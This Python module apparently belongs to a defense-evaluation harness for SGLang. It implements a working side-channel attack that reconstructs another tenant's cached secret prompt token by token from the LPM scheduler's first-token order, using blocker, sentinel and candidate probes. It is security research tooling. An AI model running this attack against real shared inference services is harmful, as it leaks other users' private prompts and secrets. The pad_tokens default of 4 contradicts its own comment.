"""Attack 2: token-by-token reconstruction from the LPM scheduling order (PromptPeek, NDSS 2025).

With ``--schedule-policy lpm`` SGLang sorts its waiting queue by the length of each request's
cached prefix, longest first. (SGLang 0.5.23 defaults to ``fcfs``; the evaluation starts every
mode with ``lpm``, the setting this attack needs and many deployments choose for its hit
rate.) If several of the attacker's probes wait in the queue together, the one that shares
one more token with a victim's cached prompt is scheduled first, so its first token comes
back first. The signal is the *order*, not a duration, so a single token of difference is
enough (measured: requests of one prefill batch stream their first tokens in batch order,
about a millisecond apart).

One round, for the next secret token after the recovered prefix ``known``:

1. The attacker (second account) sends a *blocker*: a long prompt of random tokens, so the
   scheduler is busy with its prefill while the probes arrive.
2. Shortly after, it sends a *sentinel* probe ``known + [s] + pad`` whose token ``s`` is
   certainly wrong (not a next token of any candidate), then, concurrently and in random
   order, one probe ``known + [t] + pad`` per candidate token ``t`` (pad: random tokens,
   unique per probe). Probes of one prefill batch stream their first tokens about a
   millisecond apart, and at that distance the sentinel sometimes overtook the right token
   (HTTP and event-loop jitter); the CPU profiles therefore use pads longer than half the
   server's prefill chunk (4,096 tokens), so no two probes share a batch and LPM's order
   shows as a whole forward pass (hundreds of ms) between first tokens.
3. When the blocker's step ends, the scheduler sorts the queued probes by cached prefix
   length; the first probe to return names the next token. If the *sentinel* returns first,
   nothing was reordered (the queue stayed first-come-first-served), so the round carries no
   information: the attacker stops and claims nothing for this secret. This keeps the attack
   from "recovering" secrets by luck where there is no leak.

Candidates per round are the distinct next tokens of the candidate values (from the
attacker's candidate set) that agree with the tokens recovered so far; positions where only
one candidate value is left need no round. Probes cache themselves, which is harmless here:
the next round's probes all extend the same recovered prefix, so each shares exactly that
much with the attacker's own entries. A round counts as *blocked* when the blocker's first
token came back after the last probe was sent and before any probe's.
"""

from __future__ import annotations

import asyncio
import dataclasses
import random
import statistics
from collections.abc import Sequence

from tqdm.auto import tqdm

from sglang_safekv.tooling.evaluation.attacks.common import FillerTokens, send_victims
from sglang_safekv.tooling.evaluation.attacks.ttft_reconstruction import plan_probes
from sglang_safekv.tooling.evaluation.client import ApiClient, Measurement
from sglang_safekv.tooling.evaluation.codec import Codec
from sglang_safekv.tooling.evaluation.victims import Victim


@dataclasses.dataclass(frozen=True)
class LpmSettings:
    blocker_tokens: int = 3072
    # Between the blocker and the sentinel. At 0.05 s the sentinel sometimes joined the
    # blocker's prefill batch and came back first with it, voiding rounds that LPM had in fact
    # ordered (true token second, right after the sentinel); the blocker's 3,072-token prefill
    # takes far longer than 0.2 s on the CPU profile.
    blocker_lead_s: float = 0.2
    sentinel_lead_s: float = 0.005  # between the sentinel and the candidate probes
    pad_tokens: int = 4  # see the module docstring: > half the prefill chunk separates batches
    max_candidates: int = 64  # keep the queue under SGLang's 128 (beyond it LPM turns FCFS)
    victim_max_tokens: int = 4
    settle_s: float = 2.0
    attacker: str = "attacker001"
    blocker_account: str = "attacker002"
    seed: int = 11
    # Start the blocker with the probes' known prefix, so a gateway that routes by leading
    # text sends it to the worker the probes go to (its new tokens still cost a full prefill).
    blocker_routes_with_probes: bool = False
    # Send the probes (and the blocker) as chat requests in the victim's app's shape instead
    # of token-id completions. A gateway routes a chat request by its messages' text and a
    # completion by its prompt text, so completion probes can land on another worker than
    # the victim's chat prompt (measured through smg's prefix_hash: 2 of 3 victims).
    chat_probes: bool = False


@dataclasses.dataclass
class Round:
    depth: int  # token position within the secret
    candidates: int
    on_true_path: bool  # the recovered prefix so far equals the secret's
    winner: int | None  # the token guessed; None: the sentinel won (no information)
    right_token: int | None  # the secret's token here, when on the true path
    true_rank: int | None  # 0 = first; position of the right probe among all probes
    blocked: bool
    margin_ms: float | None  # first probe's lead over the second

    @property
    def conclusive(self) -> bool:
        return self.winner is not None


@dataclasses.dataclass
class SecretWalk:
    tenant: str
    kind: str
    secret_tokens: int
    claimed: bool  # the walk reached a candidate value
    recovered: bool  # ... and it is the secret
    rounds: list[Round]
    chance: float  # probability that guessing uniformly at every round finds the secret


@dataclasses.dataclass
class LpmResult:
    walks: list[SecretWalk]
    probes_sent: int

    def summary(self) -> dict:
        rounds = [r for w in self.walks for r in w.rounds if r.on_true_path]
        conclusive = [r for r in rounds if r.conclusive]
        n = len(self.walks)
        return {
            "secrets": n,
            "recovered": sum(w.recovered for w in self.walks),
            "success_rate": sum(w.recovered for w in self.walks) / n if n else None,
            "wrong_claims": sum(w.claimed and not w.recovered for w in self.walks),
            "rounds": len(rounds),
            "rounds_conclusive": len(conclusive),
            "rounds_blocked": sum(r.blocked for r in rounds),
            # Over conclusive rounds: how often the first probe back was the right token.
            "token_accuracy": (
                sum(r.winner == r.right_token for r in conclusive) / len(conclusive)
                if conclusive
                else None
            ),
            "chance_token_accuracy": (
                statistics.mean(1 / r.candidates for r in rounds) if rounds else None
            ),
            "chance_secret_rate": statistics.mean(w.chance for w in self.walks) if n else None,
            "probes_sent": self.probes_sent,
            "per_victim": [
                {
                    "tenant": w.tenant,
                    "kind": w.kind,
                    "recovered": w.recovered,
                    "claimed": w.claimed,
                    "rounds": [
                        {
                            "depth": r.depth,
                            "candidates": r.candidates,
                            "on_true_path": r.on_true_path,
                            "conclusive": r.conclusive,
                            "right": r.winner is not None and r.winner == r.right_token,
                            "true_rank": r.true_rank,
                            "blocked": r.blocked,
                            "margin_ms": r.margin_ms,
                        }
                        for r in w.rounds
                    ],
                }
                for w in self.walks
            ],
        }


class _Trie:
    """Candidate values as token sequences; children of a recovered prefix."""

    def __init__(self, seqs: dict[str, list[int]]):
        self.seqs = seqs

    def children(self, known: Sequence[int]) -> list[int]:
        depth = len(known)
        out = {
            s[depth]
            for s in self.seqs.values()
            if len(s) > depth and list(s[:depth]) == list(known)
        }
        return sorted(out)

    def chance(self, truth: Sequence[int]) -> float:
        """Probability of walking to ``truth`` by uniform guesses at every branching."""
        p = 1.0
        for depth in range(len(truth)):
            p /= max(1, len(self.children(truth[:depth])))
        return p

    def complete(self, known: Sequence[int]) -> str | None:
        """The value whose tokens are exactly ``known`` and nothing else extends it."""
        exact = [v for v, s in self.seqs.items() if list(s) == list(known)]
        return exact[0] if exact and not self.children(known) else None


@dataclasses.dataclass
class _RoundOutcome:
    winner: int | None
    ranking: list[int | None]  # tokens by first-token arrival; None is the sentinel
    blocked: bool
    margin_ms: float | None
    sent: int


class _Sender:
    """Sends ``prefix + guess + pad`` as token ids, or as the victim's app's chat messages
    whose text tokenizes to ``prefix + guess`` and then a line break and the pad's text (the
    break keeps the guess's last token from merging with the pad)."""

    def __init__(
        self, client: ApiClient, codec: Codec, victim: Victim, prefix: list[int], chat: bool
    ):
        self.client, self.codec, self.prefix, self.chat = client, codec, prefix, chat
        self.template = victim.template
        if chat:  # where the user message's content starts in the rendered prompt
            value = victim.candidates[0]
            content = self.template.content(value, "Hello")
            rendered = codec.chat_text(self.template.messages(value, "Hello"))
            self.content_at = rendered.rindex(content)

    def messages(self, guess: list[int], pad: list[int]) -> list[dict[str, str]]:
        text = self.codec.decode(self.prefix + guess)[self.content_at :]
        return [
            {"role": "system", "content": self.template.system_prompt},
            {"role": "user", "content": text + "\n" + self.codec.decode(pad)},
        ]

    def aligned(self, guess: list[int], pad: list[int]) -> bool:
        """The chat form starts with ``prefix + guess``."""
        want = self.prefix + guess
        return self.codec.chat_ids(self.messages(guess, pad))[: len(want)] == want

    async def send(
        self, tenant: str, guess: list[int], pad: list[int], max_tokens: int = 1
    ) -> Measurement:
        if self.chat:
            return await self.client.chat(tenant, self.messages(guess, pad), max_tokens)
        return await self.client.complete_ids(tenant, self.prefix + guess + pad, max_tokens)


async def _round(
    sender: _Sender,
    settings: LpmSettings,
    filler: FillerTokens,
    rng: random.Random,
    known: list[int],
    children: list[int],
) -> _RoundOutcome:
    order = children[:]
    rng.shuffle(order)
    sentinel = filler.take(1)[0]
    while sentinel in children:
        sentinel = filler.take(1)[0]
    pads = {t: filler.take(settings.pad_tokens) for t in order}
    sentinel_pad = filler.take(settings.pad_tokens)

    blocker_ids = filler.take(settings.blocker_tokens)
    if settings.blocker_routes_with_probes or settings.chat_probes:
        blocker = asyncio.create_task(sender.send(settings.blocker_account, [], blocker_ids))
    else:
        blocker = asyncio.create_task(
            sender.client.complete_ids(settings.blocker_account, blocker_ids, max_tokens=1)
        )
    await asyncio.sleep(settings.blocker_lead_s)
    sentinel_task = asyncio.create_task(
        sender.send(settings.attacker, known + [sentinel], sentinel_pad)
    )
    await asyncio.sleep(settings.sentinel_lead_s)
    tasks = [
        asyncio.create_task(sender.send(settings.attacker, known + [t], pads[t])) for t in order
    ]
    results: list[Measurement] = await asyncio.gather(*tasks)
    sentinel_m: Measurement = await sentinel_task
    blocker_m: Measurement = await blocker
    failed = [m.error for m in [*results, sentinel_m, blocker_m] if not m.ok]
    if failed:
        raise RuntimeError(f"LPM round failed: {failed[0]}")

    probes: list[tuple[int | None, Measurement]] = [(None, sentinel_m), *zip(order, results)]
    ranked = sorted(probes, key=lambda p: p[1].first_token_at)
    last_sent = max(m.started_at for _, m in probes)
    first_back = ranked[0][1].first_token_at
    margin = (ranked[1][1].first_token_at - first_back) * 1000 if len(ranked) > 1 else None
    return _RoundOutcome(
        winner=ranked[0][0],
        ranking=[t for t, _ in ranked],
        blocked=last_sent < blocker_m.first_token_at < first_back,
        margin_ms=margin,
        sent=len(probes) + 1,
    )


async def run(
    client: ApiClient,
    codec: Codec,
    victims: Sequence[Victim],
    settings: LpmSettings,
    progress: bool = True,
) -> LpmResult:
    plans = {v.tenant: plan_probes(codec, v, 1, 1) for v in victims}
    await send_victims(
        client, [(v.tenant, v.messages()) for v in victims], settings.victim_max_tokens
    )
    await asyncio.sleep(settings.settle_s)
    filler = FillerTokens(codec, settings.seed)
    rng = random.Random(settings.seed)
    sent = 0
    senders = {
        v.tenant: _Sender(client, codec, v, plans[v.tenant][0].prefix, settings.chat_probes)
        for v in victims
    }
    # Warm the public prefixes for the attacker (matters in isolated mode only).
    for v in victims:
        await senders[v.tenant].send(settings.attacker, [], filler.take(4))
        sent += 1
    walks = []
    with tqdm(total=len(victims), desc="lpm walks", unit="secret", disable=not progress) as bar:
        for v in victims:
            plan = plans[v.tenant]
            seqs = {value: p.candidate for value, p in zip(v.candidates, plan)}
            truth = seqs[v.secret.value]
            trie = _Trie(seqs)
            known: list[int] = []
            rounds: list[Round] = []
            claimed = None
            while True:
                children = trie.children(known)
                if not children:
                    claimed = trie.complete(known)
                    break
                if len(children) == 1:
                    known.append(children[0])
                    continue
                children = children[: settings.max_candidates]
                on_path = list(truth[: len(known)]) == known
                right = truth[len(known)] if on_path and len(truth) > len(known) else None
                outcome = await _round(senders[v.tenant], settings, filler, rng, known, children)
                sent += outcome.sent
                rounds.append(
                    Round(
                        depth=len(known),
                        candidates=len(children),
                        on_true_path=on_path,
                        winner=outcome.winner,
                        right_token=right,
                        true_rank=outcome.ranking.index(right) if right in children else None,
                        blocked=outcome.blocked,
                        margin_ms=outcome.margin_ms,
                    )
                )
                if outcome.winner is None:
                    break  # the sentinel won: no reordering, nothing learned
                known.append(outcome.winner)
            walks.append(
                SecretWalk(
                    tenant=v.tenant,
                    kind=v.secret.kind,
                    secret_tokens=len(truth),
                    claimed=claimed is not None,
                    recovered=claimed == v.secret.value,
                    rounds=rounds,
                    chance=trie.chance(truth),
                )
            )
            bar.update(1)
    return LpmResult(walks, sent)
